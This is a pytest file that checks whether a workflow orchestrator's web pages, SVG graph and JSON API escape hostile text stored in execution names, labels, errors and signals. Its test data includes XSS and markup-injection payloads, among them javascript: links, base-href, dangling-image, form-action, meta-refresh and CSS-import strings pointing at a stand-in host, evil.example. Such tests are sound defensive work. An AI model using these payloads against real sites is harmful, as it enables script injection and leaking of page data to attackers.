"""Attacks by what documents, executors and users store.

test_hostile_lists.py and test_execution_page.py show such texts in a browser. Here every answer is parsed,
and whatever a browser would run or load is found in it.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from typing import Any
from xml.etree import ElementTree

import pytest

from orchestrator import web
from orchestrator.client import Client
from servers.asgi_sender import Answer, AsgiSender, Ask
from servers.page_server import PAGE
from worlds.documents import document
from worlds.listed_pages import HOSTILE_TEXTS
from worlds.page_executions import run_execution
from worlds.redis_world import RedisWorld

TEXTS = {
    **HOSTILE_TEXTS,
    "a link": "javascript:alert(document.domain)//",
    "an end of everything": "\"'>--></title></script></style></textarea></svg><base href=//evil.example>",
    "markup that swallows the rest": "<img src='//evil.example/?",
    "an element of SVG": "<svg><script href=data:,alert(1) /><foreignObject><iframe srcdoc=x>",
    "a form": "<form action=//evil.example><button formaction=//evil.example>",
    "a refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "a style": "<style>@import'//evil.example';*{display:none}</style>",
    "entities": "&lt;script&gt;&#60;img src=x&#62;&amp;lt;",
    "line separators": "a\u2028b\u2029c\u0085d",
}
HIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]")
VIEWS = ("graph", "timeline", "steps", "events", "why", "record")
LISTS = ("/executions", "/failures", "/start", "/schedules", "/dead-letters", "/doctor", "/queues")
TAGS = """
    a article aside b body br button caption code datalist dd details div dl dt em fieldset footer form h1 h2
    h3 head header hr html i input kbd label legend li link main meta nav ol option output p pre script
    section select small span strong summary table tbody td textarea th thead time title tr ul
    circle defs desc g line marker path polygon polyline rect svg symbol text tspan use
"""
"""What a page of ours may consist of."""
OWN_TAGS = frozenset(TAGS.split())


class Markup(HTMLParser):
    """Collects from a page what a browser would run or load that is not ours."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.shown: list[str] = []
        self._in_script = False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        self._in_script = tag == "script"
        if tag not in OWN_TAGS or (tag == "script" and not _is_own(values.get("src"))):
            self.found.append(f"<{tag}> {attrs}")
        if tag == "meta" and "http-equiv" in values:
            self.found.append(f"<meta> {attrs}")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "background", "ping"):
                self.found.append(f"<{tag} {name}>")
            if name in ("href", "src", "action", "xlink:href") and not _is_own(value):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in ("title", "aria-label", "placeholder", "alt", "label"):
                self.shown.append(value or "")

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.found.append(f"an inline script: {data[:80]}")
        self.shown.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_comment(self, data: str) -> None:
        self.found.append(f"a comment: {data[:80]}")


def _is_own(path: str | None) -> bool:
    """Whether a path stays on this host."""
    return path is not None and re.fullmatch(r"|#.*|/|/[^/\\].*", path) is not None


def check_page(answer: Answer, path: str) -> None:
    page = Markup(answer.text)
    assert page.found == [], path
    assert HIDDEN.search("".join(page.shown)) is None, path


def store_everywhere(world: RedisWorld, text: str) -> None:
    """Put a text wherever a document, an executor, a user or another program can."""

    def fail(inputs: Any) -> Any:
        raise type(text.encode("ascii", "ignore").decode() or "E", (ValueError,), {})(text)

    label = "".join(char for char in text if char.isprintable())[:60]
    shown = {"name": text, "label": text, "description": text}
    spec = document(
        {**shown, "id": "good", "fn": "good", "input": {"x": 1, "v": {"var": "input.v"}}},
        {**shown, "id": "bad", "fn": "bad", "depends_on": ["good"], "retry": 0},
        {"id": "ask", "wait": {"signal": "s"}},
        name=text,
        description=text,
        inputs={"v": {"default": text}},
    )
    full_id = run_execution(
        world,
        spec,
        {"good": lambda inputs: {text: [text]}, "bad": fail},
        execution_id="hostile",
        labels=json.dumps({"k": label}),
    )
    coordinator = world.coordinator("two")
    events = world.keys.events_of(full_id)
    control = {"type": "control", "execution": full_id, "reason": text, "by": text}
    world.send(events, {**control, "action": "cancel"})
    world.send(events, {"type": "signal", "execution": full_id, "name": text, "payload": json.dumps(text)})
    world.send(events, {"type": text, "execution": full_id, text: text})
    world.settle(coordinator)
    Client(world.client).register(text, {**spec, "schedule": {"cron": "0 0 1 1 *"}})


@pytest.fixture
def local(redis_url: str) -> AsgiSender:
    """A page that is asked by a browser."""
    return AsgiSender(web.app(redis_url), PAGE)


@pytest.mark.parametrize("kind", TEXTS)
def test_a_stored_text_is_only_text_on_every_page(world: RedisWorld, local: AsgiSender, kind: str) -> None:
    text = TEXTS[kind]
    store_everywhere(world, text)

    paths = [f"/executions/hostile?view={view}&step={unit}" for view in VIEWS for unit in ("good", "bad")]
    paths += [
        f"/executions/hostile?part={part}&step=bad" for part in ("summary", "graph", "timeline", "step")
    ]
    paths += [*LISTS, "/start?from=hostile", "/executions?text=k"]
    answers = local.send_all(Ask("GET", path) for path in paths)
    name = text.encode().hex("%")
    form = local.send("GET", f"/start?workflow=%{name}")

    for path, answer in zip([*paths, "the form"], [*answers, form], strict=True):
        assert answer.status == 200, path
        check_page(answer, path)
    assert "hostile" in answers[0].text


@pytest.mark.parametrize("kind", TEXTS)
def test_a_stored_text_is_only_text_in_a_picture_and_data(
    world: RedisWorld, local: AsgiSender, kind: str
) -> None:
    store_everywhere(world, TEXTS[kind])

    picture = local.send("GET", "/api/v1/executions/hostile/graph.svg")

    assert picture.header("content-type") == "image/svg+xml"
    for element in ElementTree.fromstring(picture.text).iter():
        tag = element.tag.rpartition("}")[2]
        assert tag in {*OWN_TAGS, "style"}, tag
        assert tag != "script"
        assert [name for name in element.attrib if name.startswith("on") or name.endswith("href")] == []
    for path in ("", "/steps", "/history", "/log", "/explain", "/graph", "/outputs", "/status", "/attempts"):
        answer = local.send("GET", f"/api/v1/executions/hostile{path}")
        assert str(answer.header("content-type")).startswith("application/"), path
        assert "html" not in str(answer.header("content-type"))
        assert answer.header("x-content-type-options") == "nosniff"
        assert answer.header("content-disposition") is None
        json.loads(answer.body)
